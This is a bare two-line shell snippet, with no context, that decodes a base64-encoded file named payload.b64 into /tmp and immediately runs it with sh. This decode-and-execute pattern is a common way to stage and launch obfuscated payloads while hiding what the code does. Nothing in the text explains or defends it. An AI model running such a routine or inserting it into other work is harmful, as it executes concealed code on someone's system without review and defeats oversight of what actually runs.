base64 -d /opt/payload.b64 > /tmp/p
sh /tmp/p
